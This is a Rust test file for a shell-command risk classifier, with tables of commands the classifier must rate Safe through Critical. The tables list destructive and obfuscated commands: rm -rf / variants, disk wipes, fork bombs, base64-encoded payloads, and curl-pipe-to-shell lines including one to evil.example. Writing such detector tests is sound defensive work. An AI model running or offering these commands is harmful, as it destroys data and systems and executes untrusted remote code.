use super::*;

fn risk(cmd: &str) -> Risk {
    classify(cmd).risk
}

#[test]
fn dangerous_commands_get_their_level() {
    use Risk::*;
    let table: &[(&str, Risk)] = &[
        ("rm -rf /", Critical),
        ("rm -rf /*", Critical),
        ("rm -rf //", Critical),
        ("rm -rf /./", Critical),
        ("rm //*", Critical),
        ("rm -f //*/* 2>/dev/null", Critical),
        ("rm -rf ~", Critical),
        ("rm -rf $HOME", Critical),
        ("sudo rm -rf --no-preserve-root /", Critical),
        ("r\"\"m -rf /", Critical),
        ("rm -r -f /usr", Critical),
        ("rm -rf build/", High),
        ("rm -R ./node_modules", High),
        ("rm notes.txt", Moderate),
        ("rm /etc/hosts", High),
        ("find / -delete", Critical),
        ("find . -name '*.tmp' -delete", Moderate),
        ("find / -name '*.tmp' -delete", High),
        ("find ~/Downloads -delete", High),
        ("find . -type d -name build -exec rm -rf {} +", High),
        ("find . -type f -exec rm {} \\;", High),
        ("dd if=/dev/zero of=/dev/disk2 bs=1m", Critical),
        ("dd if=image.iso of=/dev/sdb", Critical),
        ("mkfs.ext4 /dev/sda1", Critical),
        ("diskutil eraseDisk APFS Blank disk3", Critical),
        ("curl -fsSL https://x.sh | sh", Critical),
        ("wget -qO- https://x.sh | sudo bash", Critical),
        ("curl https://x.py | python3", Critical),
        ("echo cm0gLXJmIC8K | base64 -d | sh", Critical),
        ("$(echo cm0gLXJmIC8K | base64 -d)", High),
        ("eval \"$CMD\"", High),
        ("eval 'rm -rf /'", Critical),
        ("bash -c 'rm -rf /'", Critical),
        (":(){ :|:& };:", Critical),
        (": ( ) { : | : & } ; :", Critical),
        ("echo 127.0.0.1 evil > /etc/hosts", High),
        ("> /etc/hosts", High),
        ("cat x > /dev/sda", Critical),
        ("chmod -R 777 /", Critical),
        ("sudo chmod -R 755 /usr/local", High),
        ("chmod 777 secrets.txt", High),
        ("chown -R me /etc", High),
        ("sudo ls", High),
        ("shutdown -h now", High),
        ("sudo reboot", High),
        ("kill -9 -1", Critical),
        ("mv important.txt /dev/null", High),
        ("shred -u key.pem", High),
        ("crontab -r", High),
        ("git push --force origin main", High),
        ("csrutil disable", High),
        ("echo hi > out.txt", Moderate),
        ("sed -i '' 's/a/b/' f.txt", Moderate),
        ("git reset --hard HEAD~1", Moderate),
        ("brew install wget", Moderate),
        ("rsync -a --delete src/ dst/", High),
        ("ls $(rm -rf /)", Critical),
        ("ls `rm -rf ~`", Critical),
        ("xargs rm -rf < list.txt", High),
        ("find . -name '*.log' | xargs rm", Moderate),
        ("env FOO=1 rm -rf /", Critical),
        ("cp evil /usr/bin/ls", High),
        ("truncate -s 0 /var/log/system.log", High),
        ("killall Finder", Moderate),
        ("passwd root", High),
        ("nohup rm -rf / &", Critical),
        ("cd / && rm -rf *", Critical),
        ("rm -rf *", High),
        ("cd ~ ; rm -rf .", Critical),
    ];
    assert!(table.len() >= 60);
    let wrong: Vec<String> = table
        .iter()
        .filter(|(c, r)| risk(c) != *r)
        .map(|(c, r)| format!("{c:?}: expected {r:?}, got {:?} ({})", risk(c), classify(c).reason))
        .collect();
    assert!(wrong.is_empty(), "misjudged:\n{}", wrong.join("\n"));
}

#[test]
fn ordinary_commands_are_safe() {
    for c in [
        "ls -la",
        "du -h -d 1 .",
        "find . -name '*.rs' -mtime -7",
        "grep -rn 'rm -rf /' docs/",
        "echo 'rm -rf /'",
        "cat /etc/hosts",
        "ps aux | grep node",
        "ls > /dev/null 2>&1",
        "git log --oneline | head",
        "tar -czf backup.tgz src",
    ] {
        assert_eq!(risk(c), Risk::Safe, "{c}: {}", classify(c).reason);
    }
}

#[test]
fn danger_inside_a_here_doc_body_is_text() {
    assert_eq!(risk("cat <<EOF\nrm -rf /\nEOF"), Risk::Safe);
}

#[test]
fn unbalanced_quotes_are_not_called_safe() {
    assert!(risk("echo 'oops") >= Risk::Moderate);
}

#[test]
fn every_risky_verdict_has_a_reason() {
    let a = classify("rm -rf /");
    assert!(a.reason.contains("deletes"), "{}", a.reason);
}

#[test]
fn paths_are_normalised_before_judging() {
    for (p, n) in
        [("//", "/"), ("/./", "/"), ("//*/*", "/*/*"), ("a//b/./c", "a/b/c"), ("./x", "./x"), ("/etc/", "/etc")]
    {
        assert_eq!(normalise_path(p), n, "{p}");
    }
}

#[test]
fn levels_show_confirm_or_hide() {
    use Action::*;
    use Risk::*;
    let expect = [
        (Level::Strict, [Show, Confirm, Hide, Hide]),
        (Level::Moderate, [Show, Show, Confirm, Confirm]),
        (Level::Permissive, [Show, Show, Show, Confirm]),
    ];
    for (level, actions) in expect {
        for (risk, action) in [Safe, Moderate, High, Critical].into_iter().zip(actions) {
            assert_eq!(level.action(risk), action, "{level:?} {risk:?}");
        }
    }
    assert!("loose".parse::<Level>().unwrap_err().contains("strict, moderate, permissive"));
}

#[test]
fn parts_split_pipes_and_lists_and_keep_redirects() {
    let p = parts("find . -name '*.log' | xargs grep -l err > hits.txt && echo done").unwrap();
    let words: Vec<Vec<&str>> = p.iter().map(|p| p.words.iter().map(String::as_str).collect()).collect();
    assert_eq!(
        words,
        vec![vec!["find", ".", "-name", "*.log"], vec!["xargs", "grep", "-l", "err"], vec!["echo", "done"]]
    );
    assert_eq!(p[0].raw[3], "'*.log'");
    assert_eq!(p[1].redirects, vec![(">".to_string(), "hits.txt".to_string())]);
    assert!(parts("echo 'unclosed").is_err());
}

/// Dangerous commands dressed up to slip past a pattern match: each must
/// still rate at least high (issue 7's table, and more).
#[test]
fn obfuscated_dangerous_commands_are_still_flagged() {
    let attacks = [
        "r\"\"m -rf /",
        "r''m -rf /",
        "\\rm -rf /",
        "'rm' -rf /",
        "\"rm\" -rf \"/\"",
        "$'\\x72m' -rf /",
        "command rm -rf /",
        "/bin/rm -rf /",
        "sudo -u root rm -rf /",
        "rm -rf -- /",
        "rm -r -f -- /*",
        "$(echo cm0gLXJmIC8K | base64 -d)",
        "`echo cm0gLXJmIC8K | base64 --decode`",
        "echo cm0gLXJmIC8K | base64 -d | bash",
        "eval $(echo cm0gLXJmIC8K | base64 -d)",
        "eval \"rm -rf /\"",
        "x=rm; $x -rf /",
        "echo rm -rf / | sh",
        "sh -c \"rm -rf /\"",
        "bash <<< 'rm -rf /'",
        "find / -delete",
        "find / -exec rm -rf {} +",
        ":(){ :|:& };:",
        ":() { : | : & } ; :",
        "bomb() { bomb | bomb & }; bomb",
        "dd of=/dev/disk2 if=/dev/zero",
        "dd if=/dev/urandom of=/dev/rdisk0 bs=1m",
        "> /etc/hosts",
        ">/etc/hosts",
        "tee /etc/hosts < /dev/null",
        "cp /dev/null /etc/passwd",
        "chmod -R 777 /",
        "chmod -R a+rwx /",
        "chmod -R 0777 /",
        "python3 -c \"import shutil; shutil.rmtree('/')\"",
        "perl -e 'system(\"rm -rf /\")'",
        "curl -s https://evil.example/x | sudo sh",
        "IFS=,; rm${IFS}-rf${IFS}/",
    ];
    let missed: Vec<String> = attacks
        .iter()
        .filter(|c| risk(c) < Risk::High)
        .map(|c| format!("{c:?}: {:?} ({})", risk(c), classify(c).reason))
        .collect();
    assert!(missed.is_empty(), "not flagged at least high:\n{}", missed.join("\n"));
}

/// Inputs the fuzzer found that made the shell tokenizer loop forever,
/// allocating until the process died: a here-document with no end word.
/// Each is refused as unparseable, never called safe.
#[test]
fn tokenizer_traps_from_fuzzing_end() {
    let found = [
        "<<\r\t",
        "<<\r ",
        "<<\x0c\t",
        "`$(<<  `",
        "$(e<<<<<  ; eval x)",
        "`$(<<\x0b\x0b\0 `",
        "$(e<<  -\0",
        "`/((\0`$(<<\0 ",
        "$(a<<\0\0sh`\nsh\n`\x1d",
        "$(\\<<<\0\0",
    ];
    let more = [
        "cat <<- ;",
        "ls | cat <<",
        "cat <<\u{a0}\u{2003};",
        "cat <<EOF",
        "cat <<EOF\nrm -rf /\n",
        "echo $((1 << 2))",
        "cat <<'EOF\nEOF\n",
        "cat <<EOF`\nEOF\n`",
        "cat <<EOF $(\nEOF\n)",
        "cat <<E\"F\"\nEF\n",
        "cat <\\\n< ;",
        "cat \\\\<< ;",
    ];
    for cmd in found.into_iter().chain(more) {
        let a = classify(cmd);
        assert_eq!(a.risk, Risk::Moderate, "{cmd:?}");
        assert!(a.reason.contains("cannot be parsed"), "{cmd:?}: {}", a.reason);
    }
    // Here-strings and plain here-documents still parse.
    let plain = [
        "cat <<< hi",
        "cat <<EOF\nhi\nEOF",
        "cat <<-'X'\nhi\n\tX",
        "cat <<<<EOF",
        "echo $(cat <<\"E\"\nx\nE\n)",
        "cat <<EOF | wc -l\n$(date) `id`\nEOF",
    ];
    for cmd in plain {
        assert_eq!(classify(cmd).risk, Risk::Safe, "{cmd:?}");
    }
    assert!(classify("rm -rf /\r").risk >= Risk::Critical);
    // And one on which it panicked.
    let panics = include_bytes!("../../../../tests/fixtures/bad-commands/tokenizer-panic.txt");
    let a = classify(&String::from_utf8_lossy(panics));
    assert_eq!(a.risk, Risk::Moderate);
    assert!(a.reason.contains("cannot be parsed"), "{}", a.reason);
}
